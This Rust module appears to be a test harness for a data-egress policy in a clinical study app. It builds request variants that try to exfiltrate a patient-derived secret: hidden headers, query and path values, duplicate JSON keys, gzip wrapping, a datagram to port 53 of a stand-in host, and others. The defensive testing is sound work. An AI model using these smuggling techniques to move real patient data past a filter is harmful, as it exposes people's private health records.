//! What the app sends out, or tries to.

use std::net::{Ipv4Addr, SocketAddr};

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::data::{self, MIN_PEOPLE, Patient};

/// The name that the policy lets results go to, and the address that it pins.
pub(super) const COLLECTOR: (&str, Ipv4Addr) =
    ("collector.pharma.example", Ipv4Addr::new(203, 0, 113, 20));

/// Somebody on the internet whom the policy does not know.
pub(super) const STRANGER: (&str, Ipv4Addr) =
    ("drop.stranger.example", Ipv4Addr::new(198, 51, 100, 66));

/// Where the app sends datagrams: a port that is often left open.
pub(super) const STRANGER_UDP: SocketAddr = SocketAddr::new(std::net::IpAddr::V4(STRANGER.1), 53);

/// One attempt of the app to get something out.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum Attempt {
    /// What the policy is there to let out.
    Aggregate,
    /// The aggregate, and a secret in a header that the policy does not list.
    UnlistedHeader,
    /// The aggregate, and a secret as the value of a listed header.
    ListedHeader,
    /// The aggregate, and a secret in the query.
    Query,
    /// The aggregate, and a secret in the path.
    Path,
    /// Records of patients in the place of groups.
    Records,
    /// The aggregate, with an identifier in one of its rows.
    ExtraField,
    /// The aggregate, with a name twice in one of its rows.
    DuplicateKey,
    /// The aggregate, compressed.
    Compressed,
    /// The aggregate, with its small groups.
    SmallGroups,
    /// The aggregate, to somebody else.
    OtherHost,
    /// The aggregate, to an address on another port.
    OtherAddress,
    /// A secret in a datagram.
    Datagram,
}

/// A request of the app.
#[derive(Debug)]
pub(super) struct Outgoing {
    /// `Host`.
    pub(super) host: String,
    /// What the app takes the address of the host to be.
    pub(super) address: SocketAddr,
    /// Path and query.
    pub(super) target: String,
    pub(super) headers: Vec<(&'static str, String)>,
    pub(super) body: Vec<u8>,
}

impl Attempt {
    /// What the app sends.
    pub(super) fn outgoing(self, patients: &[Patient]) -> Outgoing {
        let secret = data::secret(patients);
        let mut out = Outgoing::results(&data::summary(patients, MIN_PEOPLE));
        match self {
            Self::Aggregate => {
                out.target += "?run=1";
                out.headers.push(("x-study-phase", "main".to_owned()));
            }
            Self::UnlistedHeader => out.headers.push(("x-note", secret)),
            Self::ListedHeader => out.headers.push(("x-study-phase", secret)),
            Self::Query => out.target += &format!("?note={secret}"),
            Self::Path => out.target = format!("/v1/results/{secret}"),
            Self::Records => out.body = pretty(&data::records(patients)),
            Self::ExtraField => {
                let mut summary = data::summary(patients, MIN_PEOPLE);
                summary["rows"][0]["patient_id"] = secret.into();
                out.body = pretty(&summary);
            }
            Self::DuplicateKey => out.body = with_duplicate(&out.body, &secret),
            Self::Compressed => {
                out.headers.push(("content-encoding", "gzip".to_owned()));
                out.body = gzip(&out.body);
            }
            Self::SmallGroups => out.body = pretty(&data::summary(patients, 1)),
            Self::OtherHost => out.to(STRANGER, 80),
            Self::OtherAddress => {
                out.to(STRANGER, 443);
                out.host = out.address.to_string();
            }
            // Not a request: see the caller.
            Self::Datagram => out.body = secret.into_bytes(),
        }
        out
    }
}

impl Outgoing {
    fn results(summary: &Value) -> Self {
        let mut out = Self {
            host: String::new(),
            address: SocketAddr::from(([0, 0, 0, 0], 0)),
            target: "/v1/results/t2dm".to_owned(),
            headers: vec![("content-type", "application/json".to_owned())],
            // With white space that the canonical form does not have.
            body: pretty(summary),
        };
        out.to(COLLECTOR, 80);
        out
    }

    fn to(&mut self, (name, ip): (&str, Ipv4Addr), port: u16) {
        self.host = name.to_owned();
        self.address = SocketAddr::from((ip, port));
    }
}

fn pretty(value: &Value) -> Vec<u8> {
    format!("{value:#}").into_bytes()
}

/// Many readers take the last of two members with one name, and some the first: one of them is
/// judged, the other one is read.
fn with_duplicate(body: &[u8], secret: &str) -> Vec<u8> {
    let body = String::from_utf8_lossy(body);
    let duplicate = format!("\"region\": \"{secret}\",\n  \"region\":");
    body.replacen("\"region\":", &duplicate, 1).into_bytes()
}

/// RFC 1952, with one stored block of RFC 1951 §3.2.4: valid, and no compressor is needed for it.
fn gzip(data: &[u8]) -> Vec<u8> {
    let Ok(len) = u16::try_from(data.len()) else {
        return Vec::new();
    };
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255, 1];
    out.extend(len.to_le_bytes());
    out.extend((!len).to_le_bytes());
    out.extend(data);
    out.extend(crc32(data).to_le_bytes());
    out.extend(u32::from(len).to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            }
        })
    };
    !data.iter().fold(u32::MAX, step)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_compressed_body_is_gzip() {
        // The check value of CRC-32/ISO-HDLC.
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        let zipped = gzip(b"abc");
        assert_eq!(zipped.len(), 3 + 11 + 4 + 8);
    }

    #[test]
    fn every_refused_attempt_differs_from_the_aggregate() {
        let patients = data::patients();
        let honest = Attempt::Aggregate.outgoing(&patients);
        for attempt in [
            Attempt::Records,
            Attempt::ExtraField,
            Attempt::DuplicateKey,
            Attempt::Compressed,
            Attempt::SmallGroups,
        ] {
            assert_ne!(attempt.outgoing(&patients).body, honest.body, "{attempt:?}");
        }
        let duplicate = Attempt::DuplicateKey.outgoing(&patients).body;
        let duplicate = String::from_utf8(duplicate).unwrap();
        assert_eq!(duplicate.matches("\"region\":").count(), 2);
    }
}
